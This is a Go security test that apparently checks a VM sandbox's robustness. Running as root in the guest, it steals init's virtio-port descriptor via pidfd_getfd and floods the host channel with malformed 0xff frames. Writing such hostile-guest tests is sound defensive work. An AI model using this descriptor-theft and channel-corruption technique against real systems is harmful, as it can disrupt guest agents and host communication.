package attack

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"
)

// TestZWire takes the wire from init and writes what is no frame. Root can: the
// guest is lost, and nothing else.
func TestZWire(t *testing.T) {
	files, _ := filepath.Glob("/proc/1/fd/*")
	for _, file := range files {
		if target, err := os.Readlink(file); err != nil || !strings.HasPrefix(target, "/dev/vport") {
			continue
		}
		if f, err := os.OpenFile(file, os.O_RDWR, 0); err == nil {
			f.Close()
			t.Error("the port can be opened twice")
		}
		var number int
		_, _ = fmt.Sscan(filepath.Base(file), &number)
		pidfd, _, errno := syscall.Syscall(434, 1, 0, 0) // pidfd_open
		if errno != 0 {
			t.Fatal(errno)
		}
		fd, _, errno := syscall.Syscall(438, pidfd, uintptr(number), 0) // pidfd_getfd
		if errno != 0 {
			t.Fatal(errno)
		}
		junk := bytes.Repeat([]byte{0xff}, 1<<16)
		fmt.Println("forging now")
		time.Sleep(time.Second)
		_, _, _ = syscall.Syscall(syscall.SYS_WRITE, fd, uintptr(unsafe.Pointer(&junk[0])), uintptr(len(junk)))
		select {}
	}
	t.Error("init has no port open")
}
